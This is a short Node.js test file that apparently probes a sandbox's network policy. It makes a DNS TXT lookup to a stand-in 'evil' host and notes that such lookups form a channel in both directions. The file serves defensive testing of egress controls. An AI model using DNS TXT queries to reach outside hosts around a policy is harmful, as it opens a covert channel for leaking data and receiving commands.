// dns.resolveTxt
// Reads an answer from a TXT record: a channel in both directions.
// policy: allowed-names
// audit: dnsQuery
// proof: arrival
'use strict';
const dns = require('dns');

module.exports = async (at) => at.called((done) => dns.resolveTxt(at.evil(), done));
